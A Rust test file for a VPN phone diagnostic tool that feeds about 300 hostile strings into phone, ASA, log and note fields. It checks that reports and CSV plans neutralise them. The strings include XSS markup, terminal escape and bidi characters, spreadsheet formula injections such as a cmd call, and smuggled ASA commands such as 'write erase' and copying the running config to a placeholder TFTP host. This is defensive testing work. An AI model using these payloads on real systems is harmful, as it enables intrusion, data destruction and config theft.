//! What a file says stays text, whatever it says: some hundred strings that mean harm to a browser, a terminal, a
//! spreadsheet or an ASA, each in every field that reaches a report.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing, missing_docs)]

use std::collections::BTreeSet;

use regex::Regex;
use vpn_phone_doctor::case::Said;
use vpn_phone_doctor::diagnose::diagnose;
use vpn_phone_doctor::diagnosis::Diagnosis;
use vpn_phone_doctor::intake::{Intake, Reading};
use vpn_phone_doctor::limits::Limits;
use vpn_phone_doctor::plan::render::{Form as PlanForm, render as render_plan};
use vpn_phone_doctor::plan::{Change, plan};
use vpn_phone_doctor::report::{Form, render};
use vpn_phone_doctor::text::Lang;

/// 2026-11-23, in seconds since 1970.
const NOW: i64 = 1_795_428_000;
/// Stands in every string, so that it is found again whatever was done to the rest.
const MARK: &str = "ZQX7";

/// Markup, by elements that run something or load something, as they are and after the end of what might stand around.
fn markup() -> Vec<String> {
    const ELEMENTS: [&str; 24] = [
        "<script>ZQX7()</script>",
        "<ScRiPt src=//x.example>ZQX7</sCrIpT>",
        "<img src=x onerror=ZQX7()>",
        "<img/src=x/onerror=ZQX7()>",
        "<svg/onload=ZQX7()>",
        "<svg><animate onbegin=ZQX7() attributeName=x>",
        "<iframe srcdoc='ZQX7'>",
        "<iframe src=javascript:ZQX7()>",
        "<object data=data:text/html,ZQX7>",
        "<embed src=//ZQX7.example>",
        "<a href=javascript:ZQX7()>x</a>",
        "<a href=data:text/html,ZQX7>x</a>",
        "<body onload=ZQX7()>",
        "<details open ontoggle=ZQX7()>",
        "<input autofocus onfocus=ZQX7()>",
        "<video><source onerror=ZQX7()>",
        "<math href=javascript:ZQX7()>x</math>",
        "<style>@import'//ZQX7.example'</style>",
        "<link rel=stylesheet href=//ZQX7.example>",
        "<meta http-equiv=refresh content=0;url=//ZQX7.example>",
        "<base href=//ZQX7.example>",
        "<form action=//ZQX7.example><button>x",
        "<template shadowrootmode=open>ZQX7",
        "<x style=background:url(//ZQX7.example)>",
    ];
    const BEFORE: [&str; 7] = ["", "\">", "'>", "</td></pre></code></title>", "-->", "]]>", "&lt;/p>"];
    ELEMENTS
        .iter()
        .flat_map(|element| BEFORE.iter().map(move |before| format!("{before}{element}")))
        .collect()
}

/// What hides, turns round or takes over: controls of terminals, marks of direction, what has no width.
fn unseen() -> Vec<String> {
    let signs = [
        '\u{7}',
        '\u{8}',
        '\u{b}',
        '\u{c}',
        '\u{e}',
        '\u{1b}',
        '\u{7f}',
        '\u{85}',
        '\u{90}',
        '\u{9b}',
        '\u{9d}',
        '\u{ad}',
        '\u{61c}',
        '\u{180e}',
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{200e}',
        '\u{200f}',
        '\u{2028}',
        '\u{2029}',
        '\u{202a}',
        '\u{202b}',
        '\u{202c}',
        '\u{202d}',
        '\u{202e}',
        '\u{2060}',
        '\u{2066}',
        '\u{2067}',
        '\u{2068}',
        '\u{2069}',
        '\u{feff}',
        '\u{fff9}',
        '\u{e0001}',
        '\u{e0041}',
    ];
    let sequences = [
        "\u{1b}[2JZQX7",
        "\u{1b}]0;ZQX7\u{7}",
        "\u{1b}]8;;https://ZQX7.example\u{7}x",
        "\u{1b}[31mZQX7\u{1b}[0m",
    ];
    let alone = signs.iter().flat_map(|sign| [format!("ZQX7{sign}x"), format!("{sign}ZQX7")]);
    alone.chain(sequences.map(str::to_owned)).collect()
}

/// Formulas of spreadsheets, behind what such a program passes by.
fn formulas() -> Vec<String> {
    let formulas = [
        "=ZQX7()",
        "+ZQX7",
        "-ZQX7",
        "@ZQX7",
        "=cmd|'/C ZQX7'!A0",
        "＝ZQX7()",
        "＋ZQX7",
        "－ZQX7",
        "＠ZQX7",
        "%ZQX7",
        "|ZQX7",
    ];
    let before = ["", " ", "\"", "\",\"", "'"];
    formulas
        .iter()
        .flat_map(|formula| before.iter().map(move |before| format!("{before}{formula}")))
        .collect()
}

/// Names that would end a command and begin another one.
fn commands() -> Vec<String> {
    let ends = [";", "\u{b}", "|", "&&", "`", "$(", "?", "!", " ", "\\", "'", "\""];
    let orders =
        ["reload", "write erase", "no crypto ca trustpoint ZQX7", "copy running-config tftp://ZQX7.example"];
    ends.iter().flat_map(|end| orders.iter().map(move |order| format!("ZQX7{end}{order}"))).collect()
}

fn strings() -> BTreeSet<String> {
    [markup(), unseen(), formulas(), commands()].into_iter().flatten().collect()
}

/// A case in which a string stands in every field that reaches a view or a report; the file's name is one of them.
fn files(hostile: &str) -> Vec<(String, String)> {
    let xml: String = hostile.chars().filter(|sign| !sign.is_control()).collect();
    let xml = xml.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let phone = format!(
        "<device><deviceProtocol>SIP</deviceProtocol><loadInformation>{xml}</loadInformation>\
         <devicePool><callManagerGroup><members><member priority=\"0\"><callManager><processNodeName>{xml}</processNodeName>\
         </callManager></member></members></callManagerGroup></devicePool>\
         <vpnGroup><mtu>{xml}</mtu><autoNetDetect>1</autoNetDetect><addresses><url1>https://{xml}/{xml}</url1></addresses>\
         <credentials><hashAlg>0</hashAlg><certHash1>{xml}</certHash1></credentials></vpnGroup></device>\n"
    );
    let asa = format!(
        ": Saved\nASA Version 9.1({hostile})\nhostname {hostile}\ndomain-name {hostile}\n\
         interface GigabitEthernet0/0\n nameif outside\n ip address 192.0.2.1 255.255.255.0\n\
         ip local pool {hostile} 198.51.100.10-198.51.100.99 mask 255.255.255.0\n\
         crypto ca trustpoint {hostile}\n subject-name CN={hostile}\nssl trust-point {hostile} outside\n\
         ssl encryption {hostile}\nwebvpn\n enable outside\n anyconnect enable\n\
         group-policy {hostile} internal\ngroup-policy {hostile} attributes\n vpn-simultaneous-logins 0\n \
         banner value {hostile}\n vpn-filter value {hostile}\n\
         tunnel-group {hostile} type remote-access\ntunnel-group {hostile} general-attributes\n default-group-policy {hostile}\n\
         tunnel-group {hostile} webvpn-attributes\n authentication aaa certificate\n group-url https://{hostile}/{hostile} enable\n: end\n"
    );
    let log = format!(
        "Nov 24 2026 08:00:01 {hostile} : %ASA-6-113039: Group <{hostile}> User <CP-7962G-SEP001122334455> IP <198.51.100.1> AnyConnect parent session started.\n\
         Nov 24 2026 08:00:02 asa : %ASA-6-113015: AAA user authentication Rejected : reason = {hostile} : local database : user = {hostile} : user IP = 203.0.113.24\n\
         Nov 24 2026 08:00:03 asa : %ASA-6-716039: Group <{hostile}> User <{hostile}> IP <198.51.100.3> Authentication: rejected, Session Type: WebVPN.\n\
         Nov 24 2026 08:00:04 asa : %ASA-7-725014: SSL lib error. Function: {hostile} Reason: {hostile}\n"
    );
    let console = format!(
        "908: NOT 10:19:27.375718 SECD: Leaf cert hash = {hostile}\n911: ERR 10:19:27.420205 VPNC: -connect failed, {hostile}\n"
    );
    vec![
        (format!("{hostile}.cnf.xml"), phone),
        ("asa.cfg".to_owned(), asa),
        (format!("{hostile}.log"), log),
        ("console.log".to_owned(), console),
        ("notes.txt".to_owned(), format!("{hostile}\n")),
    ]
}

fn readings(hostile: &str) -> Vec<Reading> {
    let limits = Limits { keep_lines: true, ..Limits::default() };
    let read = |(name, text): (String, String)| {
        let mut intake = Intake::new(&name, text.len() as u64, &limits);
        intake.push(text.as_bytes());
        intake.finish()
    };
    files(hostile).into_iter().map(read).collect()
}

/// Elements and attributes of a page, each by what stands in its markup.
fn anatomy(html: &str) -> BTreeSet<String> {
    let tag = Regex::new("<(!?/?[a-zA-Z!-][^\\s/>]*)([^>]*)>").unwrap();
    let attribute = Regex::new("([^\\s=\"]+)(?:=\"[^\"]*\")?").unwrap();
    let mut found = BTreeSet::new();
    for element in tag.captures_iter(html) {
        found.insert(element[1].to_owned());
        found.extend(attribute.captures_iter(&element[2]).map(|one| format!("{}@{}", &element[1], &one[1])));
    }
    found
}

/// The cells of a file of RFC 4180.
fn cells(csv: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut signs = csv.chars().peekable();
    while let Some(sign) = signs.next() {
        match sign {
            '"' if quoted && signs.peek() == Some(&'"') => cell.extend(signs.next()),
            '"' => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            _ => cell.push(sign),
        }
    }
    cells
}

/// What must not come out of any report as it went in.
fn steers(sign: char) -> bool {
    (sign.is_control() && sign != '\n')
        || matches!(sign, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}' | '\u{61c}' | '\u{e0001}'..='\u{e007f}')
}

fn every_command(diagnosis: &Diagnosis) -> impl Iterator<Item = &String> {
    diagnosis.findings.iter().flat_map(|found| &found.fix).flat_map(|fix| &fix.commands)
}

#[test]
fn no_string_of_a_file_becomes_markup_a_sequence_a_formula_or_a_command() {
    let strings = strings();
    assert!(strings.len() >= 300, "{}", strings.len());
    let safe = Regex::new("^[A-Za-z0-9_.:/@-]{1,64}$").unwrap();
    let forms = [Form::Html, Form::Text, Form::Markdown, Form::Ndjson, Form::Ticket];
    // The benign twins: everything of which a report of such a case can be made.
    let benign = ["ZQX7", "zqx7.example.com", "198.51.100.7", "ZQX7 and more", "1"];
    let report = |diagnosis: &Diagnosis, form| render(diagnosis, form, Lang::En);
    let diagnosed = |text: &str| diagnose(&readings(text), &Said::new(), NOW);
    let known: BTreeSet<String> =
        benign.iter().flat_map(|text| anatomy(&report(&diagnosed(text), Form::Html))).collect();
    assert!(known.contains("table") && known.contains("code") && !known.contains("script"), "{known:?}");
    let changes = [Change::of_value(Change::key("host-id-check").unwrap(), "on").unwrap()];
    let (mut told, mut planned, mut ordered) = (0, 0, 0);
    for hostile in &strings {
        let readings = readings(hostile);
        let diagnosis = diagnose(&readings, &Said::new(), NOW);
        for form in forms {
            let text = report(&diagnosis, form);
            told += usize::from(text.contains(MARK));
            let sign = text.chars().find(|sign| steers(*sign));
            assert_eq!(sign, None, "{form:?} of {hostile:?}");
            if form == Form::Html {
                let new: Vec<String> = anatomy(&text).difference(&known).cloned().collect();
                assert!(new.is_empty(), "{hostile:?}: {new:?}");
            }
            assert!(form != Form::Ndjson || text.lines().count() == 1, "{hostile:?}");
        }
        for command in every_command(&diagnosis) {
            ordered += 1;
            for word in command.split_whitespace().filter(|word| word.contains(MARK)) {
                assert!(safe.is_match(word), "{hostile:?}: {command}");
            }
            assert!(!command.contains(';') && !command.contains('\n'), "{hostile:?}: {command}");
        }
        let plan = plan(&readings, &Said::new(), NOW, &changes, true);
        for cell in cells(&render_plan(&plan, PlanForm::Csv, Lang::En)) {
            planned += usize::from(cell.contains(MARK));
            let formula =
                cell.trim_start().starts_with(['=', '+', '-', '@', '|', '%', '\t', '＝', '＋', '－', '＠']);
            assert!(!formula, "{hostile:?}: {cell}");
            assert_eq!(cell.chars().find(|sign| steers(*sign)), None, "{hostile:?}: {cell}");
        }
    }
    // They were there, or nothing was tried.
    assert!(told > strings.len() * forms.len() * 9 / 10, "{told}");
    assert!(planned > strings.len() / 2, "{planned}");
    assert!(ordered > strings.len(), "{ordered}");
}
